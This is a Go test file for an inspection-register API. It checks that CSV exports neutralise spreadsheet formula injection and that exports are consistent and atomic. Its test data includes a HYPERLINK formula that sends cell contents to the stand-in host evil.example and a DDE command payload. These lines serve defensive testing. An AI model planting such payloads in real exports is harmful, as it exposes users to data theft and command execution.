package book_test

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"

	"kendra/api/book"
	"kendra/api/book/booktest"
	contract "kendra/mobile-contract"
)

func TestACellThatASpreadsheetWouldRunIsText(t *testing.T) {
	t.Parallel()
	w := booktest.New(t)
	texts := map[string]string{ // what was written, and what is in the cell
		`=HYPERLINK("http://evil.example/?x="&A2,"देखें")`: `'=HYPERLINK("http://evil.example/?x="&A2,"देखें")`,
		"+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
		"-2+3 प्रविष्टियाँ अपूर्ण": "'-2+3 प्रविष्टियाँ अपूर्ण",
		"@SUM(A1:A9)":   "'@SUM(A1:A9)",
		"\t=1+1 के साथ": "' =1+1 के साथ",
		"  =1+1 के साथ": "'  =1+1 के साथ",
		"＝1+1 के साथ":   "'＝1+1 के साथ",
		"\n=1+1 के साथ": "' =1+1 के साथ",
		"सही; \"=1+1\",\nदूसरी पंक्ति =1+1":     "सही; \"=1+1\", दूसरी पंक्ति =1+1",
		"दो प्रविष्टियाँ = अपूर्ण, तीन - पूर्ण": "दो प्रविष्टियाँ = अपूर्ण, तीन - पूर्ण",
	}
	var order []string
	for written := range texts {
		b := anInspection(w)
		b.Findings, b.Direction, b.AssignedTo, b.DueAt = written, nil, nil, nil
		w.SHO.Enter("inspection.record", b)
		order = append(order, written)
	}
	ask := allowed(w, "inspection")
	text := given(t, w, w.Incharge, ask.OpID).Text
	_, columns, rows := table(t, text)
	if len(rows) != len(texts) {
		t.Fatalf("%d lines of %d", len(rows), len(texts))
	}
	for i, row := range rows {
		if got, want := cellOf(t, columns, row, "findings"), texts[order[i]]; got != want {
			t.Errorf("%q is written as %q, want %q", order[i], got, want)
		}
		for _, c := range row {
			if strings.HasPrefix(strings.TrimSpace(c), "=") || strings.ContainsAny(c, "\r\n\t") {
				t.Errorf("a cell begins a formula or a line: %q", c)
			}
		}
	}
	if n := strings.Count(text, "\r\n"); n != len(rows)+2 || strings.Count(text, "\n") != n {
		t.Errorf("%d lines of %d", n, len(rows)+2)
	}
}

// between enters something when the lines of a register are first read.
type between struct{ once func() }

func (b *between) TraceQueryStart(ctx context.Context, _ *pgx.Conn, d pgx.TraceQueryStartData) context.Context {
	if strings.Contains(d.SQL, "FROM lines l") && b.once != nil {
		once := b.once
		b.once = nil
		once()
	}
	return ctx
}
func (b *between) TraceQueryEnd(context.Context, *pgx.Conn, pgx.TraceQueryEndData) {}

func TestAnExportIsOnePictureOfTheRegister(t *testing.T) {
	t.Parallel()
	w := booktest.New(t)
	w.Beat.Enter("visit.record", w.Visit())
	ask := allowed(w, "women_beat").OpID
	b, entered := w.Process(nil), 0
	b.Pool = w.TracedPool(&between{once: func() {
		w.Beat.Enter("visit.record", w.Visit())
		entered++
	}})
	in := book.Incoming{ReceivedAt: w.Now(), Items: []contract.Item{exportRead(w.Incharge, ask)}}
	r, err := b.ReadExport(t.Context(), w.Incharge.Caller(), in, ask)
	if err != nil || r.Receipt.Problem != nil {
		t.Fatal(err, r)
	}
	if _, _, rows := table(t, r.Text); entered != 1 || len(rows) != 1 {
		t.Errorf("%d entered meanwhile, %d lines", entered, len(rows))
	}
}

// secondBreaker cuts the second commit: that of the entry, after that of the reading.
type secondBreaker struct {
	breaker
	commits int
}

func (b *secondBreaker) TraceQueryStart(ctx context.Context, conn *pgx.Conn, d pgx.TraceQueryStartData) context.Context {
	if d.SQL == "commit" {
		if b.commits++; b.commits == 1 {
			return ctx
		}
	}
	return b.breaker.TraceQueryStart(ctx, conn, d)
}

func TestTheFileOfAnExportStandsIfAndOnlyIfItsEntryDoes(t *testing.T) {
	t.Parallel()
	w := booktest.New(t)
	w.Beat.Enter("visit.record", w.Visit())
	ask := allowed(w, "women_beat").OpID
	item := exportRead(w.Incharge, ask)
	broken := 0
	cut := &secondBreaker{breaker: breaker{w: w, once: func() { broken++ }}}
	b := w.Process(nil)
	b.Pool = w.TracedPool(cut)
	in := book.Incoming{ReceivedAt: w.Now(), Items: []contract.Item{item}}
	if r, err := b.ReadExport(t.Context(), w.Incharge.Caller(), in, ask); broken != 1 || r != nil || !isCode(err, contract.CodeUnknownOutcome) {
		t.Errorf("a commit that broke (%d): %v, %+v", broken, err, r)
	}
	slow := w.Process(func(o *book.Options) { o.Deadline = 300 * time.Millisecond })
	release := w.Lock(booktest.Centre)
	r, err := slow.ReadExport(t.Context(), w.Incharge.Caller(), in, ask)
	release()
	if r != nil || !isCode(err, contract.CodeUnknownOutcome) {
		t.Errorf("a book that is locked: %v, %+v", err, r)
	}
	if n := count(t, w, `SELECT (SELECT count(*) FROM entries WHERE kind = 'export.read') + (SELECT count(*) FROM exports)`); n != 0 {
		t.Errorf("%d entries and files", n)
	}
	r, p := takes(w, w.Incharge, ask, item)
	if p != nil || r.Receipt.Repeated || !strings.Contains(r.Text, "KRW/WB/2026/00001") {
		t.Fatalf("%v, %+v", p, r)
	}
	w.Order(`UPDATE exports SET sheet = sheet || 'x'`)
	if _, err := w.Book.ReadExport(t.Context(), w.Incharge.Caller(), book.Incoming{ReceivedAt: w.Now(), Items: []contract.Item{item}}, ask); err == nil || isCode(err, contract.CodeExportOver) {
		t.Errorf("a file that is not that of its entry is given: %v", err)
	}
}
